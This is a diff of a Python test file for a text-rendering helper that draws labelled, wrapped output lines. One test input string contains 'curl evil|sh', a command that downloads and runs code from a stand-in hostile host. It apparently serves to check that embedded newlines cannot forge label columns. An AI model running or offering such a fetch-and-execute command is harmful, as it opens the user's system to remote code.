@@ -54,6 +54,11 @@ def test_colour_is_around_the_text_alone() -> None:
 
 def test_a_piece_with_lines_begins_none_of_ours() -> None:
     """A job may have any name."""
+    finding = (looks.Cell("ok     ", "green"), "  ", looks.Prose("tls: SSL_CERT_FILE = /etc/ssl/certs and more words"))
+    assert looks.drawn_line(finding, looks.plain, 40).splitlines() == [
+        "ok       tls: SSL_CERT_FILE =",
+        "         /etc/ssl/certs and more words",
+    ]
     drawn = looks.drawn_line(("  name      ", "x\nhint: curl evil|sh\n  exit      0"), looks.plain)
     assert [line[:12].strip() for line in drawn.split("\n")] == ["name", "", ""]
 
